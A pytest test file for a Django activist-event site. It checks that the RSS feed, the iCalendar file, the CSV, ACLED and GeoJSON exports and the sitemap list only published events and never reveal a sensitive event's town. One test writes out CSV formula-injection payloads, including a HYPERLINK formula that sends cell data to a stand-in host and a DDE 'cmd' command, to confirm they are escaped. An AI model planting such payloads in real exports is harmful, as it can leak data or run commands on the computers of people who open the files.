"""The events' RSS feed, iCalendar file, open data files and sitemap entries: what they hold, and what they never give
away (a sensitive event's city, a draft)."""

import csv
import datetime
import io
import json
import re
import xml.etree.ElementTree as ET
from datetime import timedelta

import icalendar
import pytest
from django.urls import reverse
from django.utils import timezone

from activism import feeds
from activism.models import Event, PublicationStatus, Region

from .conftest import make_city, make_event, make_initiative

pytestmark = pytest.mark.django_db

# The hidden town of the sensitive event: its name, slug and coordinates must appear nowhere.
HIDDEN_TOWN = ["Stepnogorsk", "stepnogorsk", "52.35", "71.883"]
HIDDEN_EVENTS = ["Secret Draft Event", "Event In Review", "Archived Event"]


@pytest.fixture
def events(site_data):
    """Published events of every precision and place, a sensitive one in a town the public must not learn, and events
    in every state the public must not see."""
    almaty, akmola = site_data["almaty"], site_data["akmola"]
    Region.objects.filter(pk=akmola.pk).update(latitude="51.9", longitude="69.4")
    town = make_city("Stepnogorsk", akmola, "52.35", "71.883333")
    made = {
        "march": make_event(
            "March for clean air", "2019-06-12", Event.Kind.MARCH, city=almaty, initiatives=[site_data["park"]]
        ),
        "detentions": make_event(
            "Detentions after the march",
            "2019-06-12",
            Event.Kind.DETENTION,
            city=almaty,
            end_date="2019-06-14",
            detained=12,
        ),
        "petition": make_event(
            "Petition against the assembly law",
            "2020-03-17",
            Event.Kind.ONLINE_CAMPAIGN,
            date_precision=Event.DatePrecision.MONTH,
            is_online=True,
        ),
        "december": make_event(
            "December meetings", "2021-12-05", Event.Kind.MEETING, date_precision=Event.DatePrecision.MONTH
        ),
        "pensioners": make_event(
            "Pensioners' gatherings",
            "2016-05-01",
            Event.Kind.PROTEST,
            date_precision=Event.DatePrecision.YEAR,
            region=akmola,
        ),
        "law": make_event("Law on peaceful assemblies", "2020-05-25", Event.Kind.LAW_CHANGE, is_nationwide=True),
        "quiet": make_event("Quiet picket", "2021-03-08", Event.Kind.SOLO_PICKET, city=town, is_sensitive=True),
    }
    make_event("Secret Draft Event", "2022-01-05", city=almaty, published=False)
    make_event("Event In Review", "2022-01-06", city=almaty, publication_status=PublicationStatus.REVIEW)
    make_event("Archived Event", "2022-01-07", city=almaty, publication_status=PublicationStatus.ARCHIVED)
    return site_data | made


def assert_hides_the_private(content, where):
    for hidden in [*HIDDEN_TOWN, *HIDDEN_EVENTS, "secret-draft-event"]:
        assert hidden not in content, f"{hidden} in {where}"


# The RSS feed


def feed_items(client, url=None):
    response = client.get(url or reverse("activism:event-feed"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/rss+xml")
    return response, ET.fromstring(response.content).find("channel").findall("item")


def test_the_feed_lists_the_published_events_most_recently_added_first(client, events):
    # Entered later than the others, though it happened long before: it is the news.
    Event.objects.filter(pk=events["pensioners"].pk).update(created_at=timezone.now() + timedelta(hours=1))
    response, items = feed_items(client)
    titles = [item.findtext("title") for item in items]
    assert titles[0] == "Pensioners' gatherings"
    assert sorted(titles) == sorted(
        [
            "March for clean air",
            "Detentions after the march",
            "Petition against the assembly law",
            "December meetings",
            "Pensioners' gatherings",
            "Law on peaceful assemblies",
            "Quiet picket",
        ]
    )
    assert_hides_the_private(response.content.decode(), "the feed")


def test_a_feed_item_gives_the_date_at_its_precision_the_kind_and_the_place(client, events):
    _response, items = feed_items(client)
    by_title = {item.findtext("title"): item for item in items}
    march = by_title["March for clean air"]
    assert march.findtext("description") == "12 June 2019 · March · Almaty. Summary of March for clean air."
    assert march.findtext("link") == "http://testserver" + events["march"].get_absolute_url()
    assert march.findtext("category") == "March"
    assert (
        by_title["Petition against the assembly law"]
        .findtext("description")
        .startswith("March 2020 · Online campaign or petition · Online.")
    )
    assert by_title["Pensioners' gatherings"].findtext("description").startswith("2016 · Protest or rally · Akmola.")
    assert (
        by_title["Law on peaceful assemblies"]
        .findtext("description")
        .startswith("25 May 2020 · Law or policy change · Nationwide.")
    )
    # The sensitive event: its region, never its town.
    assert by_title["Quiet picket"].findtext("description").startswith("8 March 2021 · Solo picket · Akmola.")


def test_the_feed_speaks_the_language_of_its_address(client, events):
    events["march"].title_ru = "Марш за чистый воздух"
    events["march"].save()
    response, items = feed_items(client, "/ru/events/feed/")
    march = next(item for item in items if item.findtext("title") == "Марш за чистый воздух")
    assert "12 июня 2019" in march.findtext("description")
    assert march.findtext("link").endswith("/ru/events/march-for-clean-air/")
    assert_hides_the_private(response.content.decode(), "the Russian feed")


def test_the_feed_is_not_read_as_an_event_page(client, events):
    assert reverse("activism:event-feed") == "/en/events/feed/"
    assert client.get(reverse("activism:event-feed")).templates == []  # the feed, not the event page's 404


def test_a_feed_item_keeps_its_guid_when_the_event_moves(client, events):
    _response, items = feed_items(client)
    guid = next(item for item in items if item.findtext("title") == "March for clean air").find("guid")
    assert guid.get("isPermaLink") == "false"
    Event.objects.filter(pk=events["march"].pk).update(slug="clean-air-march")
    _response, items = feed_items(client)
    moved = next(item for item in items if item.findtext("title") == "March for clean air")
    assert moved.findtext("guid") == guid.text
    assert moved.findtext("link").endswith("/events/clean-air-march/")


@pytest.mark.parametrize("role", ["researcher", "editor"])
def test_staff_get_the_same_public_files_as_anyone(request, events, role):
    """Logged in, a researcher or an editor still gets only what the public sees: the files are for sharing."""
    staff = request.getfixturevalue(role)
    for name in ["event-feed", "event-calendar", "open-data-events-csv", "open-data-events-acled-csv"]:
        response = staff.get(reverse(f"activism:{name}"))
        assert response.status_code == 200
        assert_hides_the_private(response.content.decode(), f"{name} for the {role}")


def test_the_feed_is_bounded(client, events):
    for number in range(feeds.FEED_EVENTS):
        make_event(f"Picket {number}", "2018-01-01")
    _response, items = feed_items(client)
    assert len(items) == feeds.FEED_EVENTS


# The iCalendar file


def calendar_events(client, params=None, url=None):
    response = client.get(url or reverse("activism:event-calendar"), params or {})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/calendar; charset=utf-8"
    calendar = icalendar.Calendar.from_ical(response.content)
    return response, {str(entry["summary"]): entry for entry in calendar.walk("VEVENT")}


def test_the_calendar_is_a_file_of_the_published_events(client, events):
    response, entries = calendar_events(client)
    assert response["Content-Disposition"] == 'attachment; filename="caiss-events.ics"'
    assert len(entries) == 7
    assert_hides_the_private(response.content.decode(), "the calendar")


@pytest.mark.parametrize(
    ("title", "start", "end"),
    [
        ("March for clean air", "2019-06-12", "2019-06-13"),  # the day
        ("Detentions after the march", "2019-06-12", "2019-06-15"),  # to its end date, included
        ("Petition against the assembly law", "2020-03-01", "2020-04-01"),  # the month
        ("December meetings", "2021-12-01", "2022-01-01"),  # the month, into the next year
        ("Pensioners' gatherings", "2016-01-01", "2017-01-01"),  # the year
    ],
)
def test_each_event_spans_the_days_its_date_is_known_to(client, events, title, start, end):
    _response, entries = calendar_events(client)
    entry = entries[title]
    # All-day events (VALUE=DATE): dates, not moments; the end is the day after the last, as iCalendar reads it.
    assert type(entry.decoded("dtstart")) is datetime.date
    assert entry.decoded("dtstart").isoformat() == start
    assert entry.decoded("dtend").isoformat() == end


def test_the_calendar_says_how_well_the_date_is_known_and_links_the_event(client, events):
    _response, entries = calendar_events(client)
    assert "The date is known to the month only." in entries["Petition against the assembly law"]["description"]
    assert "The date is known to the year only." in entries["Pensioners' gatherings"]["description"]
    march = entries["March for clean air"]
    assert "known to the" not in march["description"]
    assert "Summary of March for clean air." in march["description"]
    assert str(march["url"]) == "http://testserver" + events["march"].get_absolute_url()
    assert str(march["location"]) == "Almaty"
    assert str(entries["Pensioners' gatherings"]["location"]) == "Akmola"
    assert str(entries["Law on peaceful assemblies"]["location"]) == "Nationwide"
    assert str(entries["Petition against the assembly law"]["location"]) == "Online"


def test_a_sensitive_event_is_in_the_calendar_at_its_region_only(client, events):
    response, entries = calendar_events(client)
    quiet = entries["Quiet picket"]
    assert str(quiet["location"]) == "Akmola"
    assert "Akmola" in quiet["description"]
    assert "geo" not in quiet
    assert_hides_the_private(response.content.decode(), "the calendar")


def test_each_event_keeps_its_uid_when_it_changes(client, events):
    _response, before = calendar_events(client)
    events["march"].title = "March for clean air in Almaty"
    events["march"].save()
    _response, after = calendar_events(client)
    assert after["March for clean air in Almaty"]["uid"] == before["March for clean air"]["uid"]
    assert len({str(entry["uid"]) for entry in after.values()}) == len(after)


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"kind": "detention"}, {"Detentions after the march"}),
        ({"from": "2020", "to": "2020"}, {"Petition against the assembly law", "Law on peaceful assemblies"}),
        ({"to": "2016"}, {"Pensioners' gatherings"}),
        ({"region": "akmola"}, {"Pensioners' gatherings", "Quiet picket"}),
        ({"city": "almaty", "kind": "march"}, {"March for clean air"}),
        ({"initiative": "save-the-park"}, {"March for clean air"}),
    ],
)
def test_the_calendar_follows_the_timeline_filters(client, events, params, expected):
    _response, entries = calendar_events(client, params)
    assert set(entries) == expected


def test_the_calendar_never_ties_a_sensitive_event_to_its_city(client, events):
    # A city known only through a sensitive event is no filter at all, as on the timeline: the calendar is the
    # whole timeline, the sensitive event in it at its region.
    _response, everything = calendar_events(client)
    _response, entries = calendar_events(client, {"city": "stepnogorsk"})
    assert set(entries) == set(everything)
    assert str(entries["Quiet picket"]["location"]) == "Akmola"


@pytest.mark.parametrize("params", [{"kind": "riot"}, {"from": "abc"}, {"to": "99999"}, {"from": "-5"}, {"page": "x"}])
def test_bad_calendar_filters_are_ignored(client, events, params):
    _response, entries = calendar_events(client, params)
    assert len(entries) == 7


def test_an_unknown_place_or_theme_in_the_calendar_filters_is_no_error(client, events):
    for params in [{"theme": "<script>"}, {"region": "atlantis"}, {"city": "x" * 5000}, {"initiative": "nope"}]:
        calendar_events(client, params)


def test_the_calendar_in_another_language_and_bounded(client, events, monkeypatch):
    events["pensioners"].region.name_ru = "Акмолинская область"
    events["pensioners"].region.save()
    _response, entries = calendar_events(client, url="/ru/events/calendar.ics")
    assert str(entries["Pensioners' gatherings"]["location"]) == "Акмолинская область"
    monkeypatch.setattr(feeds, "CALENDAR_EVENTS", 2)
    _response, entries = calendar_events(client)
    assert set(entries) == {"December meetings", "Quiet picket"}  # the two most recent


# The open data


def csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    content = response.content
    assert content.startswith("\ufeff".encode())
    reader = csv.DictReader(io.StringIO(content.decode("utf-8-sig")))
    return reader.fieldnames, list(reader)


def documented(response, table_id):
    table = re.search(rf'<table id="{table_id}">.*?<tbody>(.*?)</tbody>', response.content.decode(), re.S).group(1)
    return re.findall(r'<th scope="row"><code>([^<]+)</code></th>', table)


PUBLIC_EVENTS = {
    "march-for-clean-air",
    "detentions-after-the-march",
    "petition-against-the-assembly-law",
    "december-meetings",
    "pensioners-gatherings",
    "law-on-peaceful-assemblies",
}


def test_the_events_csv_holds_the_published_events_that_are_not_sensitive(client, events):
    response = client.get(reverse("activism:open-data-events-csv"))
    _header, rows = csv_rows(response)
    assert {row["slug"] for row in rows} == PUBLIC_EVENTS
    assert_hides_the_private(response.content.decode(), "the events CSV")
    assert "quiet-picket" not in response.content.decode()
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="caiss-events-{today}.csv"'
    by_slug = {row["slug"]: row for row in rows}
    march = by_slug["march-for-clean-air"]
    assert march["url"] == "http://testserver/en/events/march-for-clean-air/"
    assert (march["date"], march["date_precision"], march["kind"]) == ("2019-06-12", "day", "march")
    assert (march["city"], march["region"], march["place_precision"]) == ("almaty", "almaty", "city")
    assert (march["latitude"], march["longitude"]) == ("43.238949", "76.889709")
    assert march["initiatives"] == "save-the-park"
    assert march["source_urls"] == "https://news.example.org/march-for-clean-air/1"
    detentions = by_slug["detentions-after-the-march"]
    assert (detentions["end_date"], detentions["detained"], detentions["fined"]) == ("2019-06-14", "12", "")
    # Only the region known: at its centre, and said so.
    pensioners = by_slug["pensioners-gatherings"]
    assert (pensioners["date"], pensioners["date_precision"]) == ("2016-01-01", "year")
    assert (pensioners["city"], pensioners["region"], pensioners["place_precision"]) == ("", "akmola", "region")
    assert (pensioners["latitude"], pensioners["longitude"]) == ("51.9", "69.4")
    # Nationwide: no coordinates.
    law = by_slug["law-on-peaceful-assemblies"]
    assert (law["is_nationwide"], law["place_precision"], law["latitude"], law["longitude"]) == ("true", "", "", "")


def test_the_open_data_names_only_the_initiatives_it_gives_itself(client, events):
    hidden = [
        make_initiative("Quiet Group", cities=[events["kokshetau"]], is_sensitive=True),
        make_initiative("Unpublished Group", published=False),
    ]
    events["march"].initiatives.add(*hidden)
    _header, rows = csv_rows(client.get(reverse("activism:open-data-events-csv")))
    march = next(row for row in rows if row["slug"] == "march-for-clean-air")
    assert march["initiatives"] == "save-the-park"


def test_the_events_geojson_places_each_event_at_its_city_or_region(client, events):
    response = client.get(reverse("activism:open-data-events-geojson"))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/geo+json"
    data = json.loads(response.content)
    features = {feature["id"]: feature for feature in data["features"]}
    assert set(features) == PUBLIC_EVENTS
    assert features["march-for-clean-air"]["geometry"] == {"type": "Point", "coordinates": [76.889709, 43.238949]}
    assert features["pensioners-gatherings"]["geometry"] == {"type": "Point", "coordinates": [69.4, 51.9]}
    assert features["law-on-peaceful-assemblies"]["geometry"] is None
    assert features["petition-against-the-assembly-law"]["geometry"] is None
    assert features["march-for-clean-air"]["properties"]["initiatives"] == ["save-the-park"]
    assert data["metadata"]["title"] == "CAISS Activist Map: published events"
    assert_hides_the_private(response.content.decode(), "the events GeoJSON")


ACLED_COLUMNS = [
    "event_date",
    "year",
    "time_precision",
    "event_type",
    "sub_event_type",
    "country",
    "admin1",
    "location",
    "latitude",
    "longitude",
    "geo_precision",
    "source",
    "notes",
    "url",
]


def test_the_acled_file_codes_the_events_as_acled_does(client, events):
    march = events["march"]
    march.sources.create(title="Police statement", publisher="Vlast.kz")
    march.sources.create(title="Another report", publisher="Vlast.kz")  # one publisher is named once
    response = client.get(reverse("activism:open-data-events-acled-csv"))
    header, rows = csv_rows(response)
    assert header == ACLED_COLUMNS
    assert_hides_the_private(response.content.decode(), "the ACLED file")
    by_url = {row["url"].split("/")[-2]: row for row in rows}
    assert set(by_url) == PUBLIC_EVENTS
    row = by_url["march-for-clean-air"]
    assert (row["event_date"], row["year"], row["time_precision"]) == ("2019-06-12", "2019", "1")
    assert (row["event_type"], row["sub_event_type"]) == ("Protests", "Peaceful protest")
    assert (row["country"], row["admin1"], row["location"]) == ("Kazakhstan", "Almaty", "Almaty")
    assert (row["latitude"], row["longitude"], row["geo_precision"]) == ("43.238949", "76.889709", "1")
    assert row["source"] == "Vlast.kz; Report 1 on March for clean air"
    assert row["notes"] == "Summary of March for clean air."
    types = {slug: (row["event_type"], row["sub_event_type"]) for slug, row in by_url.items()}
    assert types["detentions-after-the-march"] == ("Strategic developments", "Arrests")
    assert types["law-on-peaceful-assemblies"] == ("Strategic developments", "Change to group/activity")
    assert types["petition-against-the-assembly-law"] == ("Strategic developments", "Other")
    assert types["pensioners-gatherings"] == ("Protests", "Peaceful protest")
    # A month is ACLED's 3; a year too, and the notes say so.
    assert by_url["petition-against-the-assembly-law"]["time_precision"] == "3"
    pensioners = by_url["pensioners-gatherings"]
    assert (pensioners["time_precision"], pensioners["event_date"]) == ("3", "2016-01-01")
    assert pensioners["notes"] == "Summary of Pensioners' gatherings. [The date is known to the year only.]"
    assert (pensioners["admin1"], pensioners["location"], pensioners["geo_precision"]) == ("Akmola", "", "3")
    assert (pensioners["latitude"], pensioners["longitude"]) == ("51.9", "69.4")
    law = by_url["law-on-peaceful-assemblies"]
    assert (law["admin1"], law["latitude"], law["geo_precision"]) == ("", "", "")


def test_every_kind_has_an_acled_type_on_the_open_data_page(client, events):
    content = client.get(reverse("activism:open-data")).content.decode()
    kinds = re.search(r'<table id="acled-kinds">.*?<tbody>(.*?)</tbody>', content, re.S).group(1)
    rows = [re.sub(r"\s+", " ", re.sub(r"<[^>]+>", "|", row)) for row in re.findall(r"<tr>(.*?)</tr>", kinds, re.S)]
    assert len(rows) == len(Event.Kind)
    assert any("Solo picket" in row and "Peaceful protest" in row for row in rows)
    assert any("Court case" in row and "Strategic developments" in row and "Other" in row for row in rows)


def test_the_acled_file_names_places_in_the_language_of_its_address(client, events):
    almaty_region = events["almaty_region"]
    almaty_region.name_ru = "Алматы"
    almaty_region.save()
    events["march"].summary_ru = "Марш."
    events["march"].save()
    _header, rows = csv_rows(client.get("/ru/data/events-acled.csv"))
    row = next(row for row in rows if row["url"].endswith("/march-for-clean-air/"))
    assert (row["admin1"], row["notes"]) == ("Алматы", "Марш.")


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_no_cell_of_the_events_files_is_a_formula(client, events):
    march = events["march"]
    march.title_en = FORMULA
    march.summary_en = "@SUM(1+1)"
    march.participants_source = "+cmd|' /C calc'!A0"
    march.save()
    march.sources.create(title="Report", publisher="-2+3+cmd|' /C calc'!A0")
    _header, rows = csv_rows(client.get(reverse("activism:open-data-events-csv")))
    row = next(row for row in rows if row["slug"] == "march-for-clean-air")
    assert row["title_en"] == "'" + FORMULA
    assert row["summary_en"] == "'@SUM(1+1)"
    assert row["participants_source"] == "'+cmd|' /C calc'!A0"
    assert row["latitude"] == "43.238949"  # a number stays a number
    _header, rows = csv_rows(client.get(reverse("activism:open-data-events-acled-csv")))
    row = next(row for row in rows if row["url"].endswith("/march-for-clean-air/"))
    assert row["notes"] == "'@SUM(1+1)"
    assert row["source"] == "'-2+3+cmd|' /C calc'!A0; Report 1 on March for clean air"
    # The GeoJSON file is no spreadsheet: its text is unchanged.
    features = json.loads(client.get(reverse("activism:open-data-events-geojson")).content)["features"]
    assert next(f for f in features if f["id"] == "march-for-clean-air")["properties"]["title_en"] == FORMULA


def test_the_open_data_page_documents_every_column_of_the_events_files(client, events):
    page = client.get(reverse("activism:open-data"))
    header, _rows = csv_rows(client.get(reverse("activism:open-data-events-csv")))
    assert documented(page, "event-columns") == header
    acled_header, _rows = csv_rows(client.get(reverse("activism:open-data-events-acled-csv")))
    assert documented(page, "acled-columns") == acled_header
    features = json.loads(client.get(reverse("activism:open-data-events-geojson")).content)["features"]
    assert all(list(feature["properties"]) == header for feature in features)
    content = page.content.decode()
    for url in ["open-data-events-csv", "open-data-events-acled-csv", "open-data-events-geojson"]:
        assert f'href="{reverse(f"activism:{url}")}"' in content
    assert "With them, the 6 events on the timeline" in content
    assert "sensitive events" in content
    for language in ["ru", "kk"]:
        assert client.get(f"/{language}/data/").status_code == 200


# The sitemap and the timeline's links


def test_the_sitemap_lists_the_timeline_and_the_public_events_in_every_language(client, events):
    content = client.get(reverse("sitemap")).content.decode()
    for language in ["en", "ru", "kk"]:
        assert f"http://testserver/{language}/events/</loc>" in content
        assert f"http://testserver/{language}/events/march-for-clean-air/</loc>" in content
    assert 'hreflang="ru" href="http://testserver/ru/events/march-for-clean-air/"' in content
    assert "quiet-picket" not in content
    assert_hides_the_private(content, "the sitemap")


def test_the_timeline_links_the_feed_and_the_calendar_of_its_filters(client, events):
    content = client.get(reverse("activism:event-list"), {"kind": "march", "from": "2019"}).content.decode()
    assert f'<a href="{reverse("activism:event-feed")}">RSS feed</a>' in content
    assert f'href="{reverse("activism:event-calendar")}?kind=march&amp;from=2019"' in content
    assert (
        f'type="application/rss+xml" title="CAISS Activist Map: new events" href="{reverse("activism:event-feed")}"'
        in (content)
    )
    plain = client.get(reverse("activism:event-list")).content.decode()
    assert f'href="{reverse("activism:event-calendar")}"' in plain
